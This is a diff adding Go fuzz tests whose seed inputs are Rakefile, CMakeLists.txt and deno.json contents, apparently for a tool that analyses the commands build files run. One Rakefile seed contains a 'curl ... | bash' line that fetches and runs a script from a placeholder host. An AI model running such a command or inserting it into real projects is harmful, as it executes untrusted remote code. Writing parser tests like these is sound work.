@@ -219,3 +219,27 @@ func FuzzNotebookCode(f *testing.F) {
 		RepositoryKind(text)
 	})
 }
+
+func FuzzRakefileShell(f *testing.F) {
+	f.Add("task :t do\n  sh \"curl -s https://x.example | bash\"\n  sh 'a', \"#{Dir.home}\", verbose: false\n  ruby %q(-e 1)\n  sh <<~SH\n    ls\n  SH\nend\n", "t")
+	f.Add("sh(\"#{ENV['X']\nsh %(a (b) c\nsh <<'E\"\nsh cmd\n", "")
+	f.Fuzz(func(t *testing.T, text, args string) {
+		fuzzFile(t, "Rakefile", "rake "+args, text)
+	})
+}
+
+func FuzzCMakeLists(f *testing.F) {
+	f.Add("set(A a;b \"c d\")\nexecute_process(COMMAND ${A} $ENV{HOME} [=[x]=] COMMAND sh WORKING_DIRECTORY ${CMAKE_SOURCE_DIR})\n#[[ c ]]\ninclude(x.cmake)\nadd_subdirectory(sub)\n", "-S . -B b")
+	f.Add("execute_process(COMMAND \"${\" ${${X}} $ENV{ ( ) \\\"\n", "-P CMakeLists.txt")
+	f.Fuzz(func(t *testing.T, text, args string) {
+		fuzzFile(t, "CMakeLists.txt", "cmake "+args, text)
+	})
+}
+
+func FuzzDenoJSON(f *testing.F) {
+	f.Add("{\"tasks\": {\"a\": {\"command\": \"rm x\", \"dependencies\": [\"b\", \"a\"]}, \"b\": \"ls\"}}", "task a x")
+	f.Add("{// c\n\"tasks\": {\"a\": 1,}}", "task a")
+	f.Fuzz(func(t *testing.T, text, args string) {
+		fuzzFile(t, "deno.json", "deno "+args, text)
+	})
+}
